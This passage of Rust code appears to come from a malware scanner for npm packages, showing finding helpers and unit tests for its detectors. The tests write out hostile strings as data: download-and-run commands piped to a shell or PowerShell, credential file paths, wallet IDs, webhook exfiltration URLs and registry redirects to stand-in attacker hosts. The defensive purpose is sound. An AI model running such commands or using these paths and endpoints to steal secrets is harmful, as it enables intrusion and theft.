    message: impl Into<String>,
    evidence: Option<&str>,
) -> Finding {
    let evidence = evidence
        .map(str::to_string)
        .or_else(|| file.line_text(line))
        .unwrap_or_default();
    let capabilities: &[Capability] = info.capabilities;
    let finding = Finding::new(info.id, severity, confidence, message)
        .at(file.path.clone(), (line > 0).then_some(line))
        .with_capabilities(capabilities);
    if evidence.is_empty() {
        finding
    } else {
        finding.with_evidence(evidence)
    }
}

/// Evidence for a call: the extractor's excerpt, else the line.
pub fn call_evidence(file: &FileFacts, call: &Call) -> String {
    if call.excerpt.is_empty() {
        file.line_text(call.line).unwrap_or_default()
    } else {
        call.excerpt.clone()
    }
}

/// Per-file budget for low-severity findings of one rule: a file with hundreds of harmless
/// `require(name)` or `execSync('git …')` calls gets a few findings, not hundreds.
pub struct LowBudget {
    left: usize,
}

impl LowBudget {
    pub fn new(max: usize) -> Self {
        LowBudget { left: max }
    }

    /// Pushes the finding for `call` unless it is low and the budget is spent.
    pub fn push_call_finding(
        &mut self,
        out: &mut Vec<Finding>,
        info: &RuleInfo,
        file: &FileFacts,
        call: &Call,
        (severity, confidence, message): (Severity, Confidence, String),
    ) {
        if severity == Severity::Low {
            if self.left == 0 {
                return;
            }
            self.left -= 1;
        }
        let evidence = call_evidence(file, call);
        out.push(finding(
            info,
            file,
            call.line,
            severity,
            confidence,
            message,
            Some(&evidence),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registry_redirects_name_the_unfamiliar_host() {
        for (text, host) in [
            ("\nregistry=http://npm-mirror-fast.xyz/\n", Some("npm-mirror-fast.xyz")),
            (
                "npm config set registry https://evil.example/npm/",
                Some("evil.example"),
            ),
            ("npm set registry=\"http://10.0.0.5:4873\"", Some("10.0.0.5")),
            (
                "npmRegistryServer: \"https://packages.attacker.dev\"",
                Some("packages.attacker.dev"),
            ),
            ("registry=https://registry.npmjs.org/", None),
            ("npm config set registry https://registry.npmmirror.com", None),
            ("@acme:registry=https://npm.acme.internal/", None),
            ("//registry.npmjs.org/:_authToken=${NPM_TOKEN}", None),
            ("const registry = getRegistry(); fetch('https://example.com')", None),
        ] {
            assert_eq!(registry_redirect(text).as_deref(), host, "{text}");
        }
    }

    #[test]
    fn credential_gate_sees_every_needle_in_any_case() {
        for needle in CREDENTIAL_NEEDLES.iter().chain(WALLET_EXTENSION_IDS) {
            assert_eq!(needle.to_ascii_lowercase(), *needle, "{needle} must be lower-case");
            assert!(
                credential_gate(&format!("x{}y", needle.to_ascii_uppercase())),
                "{needle}"
            );
        }
        assert!(!credential_gate("react-dom.production.min.js"));
        // Backslash paths bypass the gate (they are folded to `/` first).
        assert_eq!(
            credential_kinds("C:\\Users\\x\\.SSH\\id_rsa"),
            vec![CredentialKind::Ssh]
        );
    }

    #[test]
    fn string_marks_are_each_lists_own_matches() {
        let strings = [
            "plain",
            "~/.NPMRC",
            ".github/workflows/.npmrc",
            "config.sh --url https://github.com/x --token",
            "",
            "C:/Users/x/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup",
            "id_rsa and .bashrc and actions/runner/releases",
            "x\u{e9}.zshrc",
        ];
        let blob = crate::facts::Blob::new(strings.iter().copied());
        let marks = string_marks(&blob);
        let matching = |needles: &[&str]| -> Vec<usize> {
            (0..strings.len())
                .filter(|&i| needles.iter().any(|n| strings[i].to_ascii_lowercase().contains(n)))
                .collect()
        };
        let credential: Vec<&str> = CREDENTIAL_NEEDLES.iter().chain(WALLET_EXTENSION_IDS).copied().collect();
        let location: Vec<&str> = super::super::persistence::location_fragments().collect();
        assert_eq!(marks.credential, matching(&credential));
        assert_eq!(marks.location, matching(&location));
        assert_eq!(marks.runner, matching(super::super::persistence::RUNNER));
        // The overlapping pass sees a location and a credential in the same string.
        assert!(marks.credential.contains(&2) && marks.location.contains(&2));
        assert!(marks.runner.contains(&3) && marks.runner.contains(&6));
    }

    #[test]
    fn normalize_strips_module_and_global_prefixes() {
        assert_eq!(normalize("node:child_process.exec"), "child_process.exec");
        assert_eq!(normalize("globalThis.eval"), "eval");
        assert_eq!(normalize("window.fetch"), "fetch");
        assert_eq!(normalize("global.self.fetch"), "fetch");
        assert_eq!(normalize("self.fetch"), "fetch");
        assert_eq!(normalize("node:globalThis.x"), "x");
        assert_eq!(normalize("selfish.fetch"), "selfish.fetch");
        assert_eq!(normalize("?.send"), "?.send");
        assert_eq!(normalize(""), "");
    }

    #[test]
    fn hosts_are_parsed_from_urls() {
        assert_eq!(
            url_hosts("curl https://user@Evil.example:8443/x?y"),
            vec!["evil.example"]
        );
        assert_eq!(
            url_hosts("a http://1.2.3.4/ b wss://x.oast.fun"),
            vec!["1.2.3.4", "x.oast.fun"]
        );
        assert!(url_hosts("no url here").is_empty());
        // Multi-byte characters next to the scheme (found in a real package: U+212A KELVIN SIGN).
        assert!(url_hosts("\u{212A}ttp://example.com/").is_empty());
        assert_eq!(url_hosts("é→https://x.example/"), vec!["x.example"]);
    }

    #[test]
    fn public_ips_exclude_private_and_resolvers() {
        assert!(is_public_ipv4("45.77.1.2"));
        for host in [
            "127.0.0.1",
            "10.0.0.1",
            "192.168.1.1",
            "8.8.8.8",
            "169.254.169.254",
            "example.com",
        ] {
            assert!(!is_public_ipv4(host), "{host}");
        }
    }

    #[test]
    fn exfil_services_need_the_attacker_shape() {
        assert!(exfil_service("abc.oast.fun", "").is_some());
        assert!(exfil_service("webhook.site", "https://webhook.site/x").is_some());
        assert!(exfil_service("discord.com", "https://discord.com/api/webhooks/123456789012345678/abc").is_some());
        assert!(exfil_service("discord.com", "https://discord.com/api/v10").is_none());
        assert!(exfil_service(
            "script.google.com",
            "https://script.google.com/macros/s/AKfycbx3hQ9/exec"
        )
        .is_some());
        assert!(exfil_service("script.google.com", "https://script.google.com/home").is_none());
        assert!(exfil_service(
            "api.telegram.org",
            "https://api.telegram.org/bot123456789:AAE/sendMessage"
        )
        .is_some());
        assert!(exfil_service("api.telegram.org", "https://api.telegram.org/bot").is_none());
        assert!(exfil_service(
            "hooks.slack.com",
            "https://hooks.slack.com/services/T01ABCDEF/B02GHIJKL/abcdefghijklmnopqrstuvwx"
        )
        .is_some());
        assert!(exfil_service("hooks.slack.com", "https://hooks.slack.com/services/").is_none());
        assert!(exfil_service("api.github.com", "https://api.github.com/repos").is_none());
    }

    #[test]
    fn credential_paths_are_classified() {
        assert_eq!(credential_kinds("~/.npmrc"), vec![CredentialKind::Npmrc]);
        assert!(
            credential_kinds(".npmrc").is_empty(),
            "a bare file name (ignore lists) is not a read"
        );
        assert_eq!(
            credential_kinds("C:\\Users\\x\\.aws\\credentials"),
            vec![CredentialKind::AwsCredentials]
        );
        assert_eq!(
            credential_kinds("~/Library/Application Support/Google/Chrome/Default/Login Data"),
            vec![CredentialKind::Browser]
        );
        assert_eq!(
            credential_kinds("Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"),
            vec![CredentialKind::Wallet]
        );
    }

    #[test]
    fn download_and_run_commands() {
        assert!(is_download_and_run("curl -fsSL https://x.example/a.sh | sh"));
        assert!(is_download_and_run(
            "powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://x')\""
        ));
        assert!(!is_download_and_run("curl https://x.example/a.json -o a.json"));
        assert!(!is_download_and_run("git rev-parse HEAD"));
        assert!(is_download_and_run(
            "cmd /c curl http://x.example/u.exe -o %TEMP%\\u.exe && start %TEMP%\\u.exe"
        ));
    }

    #[test]
    fn secret_env_names() {
        for name in [
            "NPM_TOKEN",
            "GITHUB_TOKEN",
            "AWS_ACCESS_KEY_ID",
            "STRIPE_SECRET_KEY",
            "DB_PASSWORD",
            "OPENAI_API_KEY",
        ] {
            assert!(is_secret_env_name(name), "{name}");
        }
        for name in [
            "NODE_ENV",
            "HOME",
            "PATH",
            "CI",
            "DEBUG",
            "PORT",
            "AWS_REGION",
            "AWS_PROFILE",
        ] {
            assert!(!is_secret_env_name(name), "{name}");
        }
    }
}
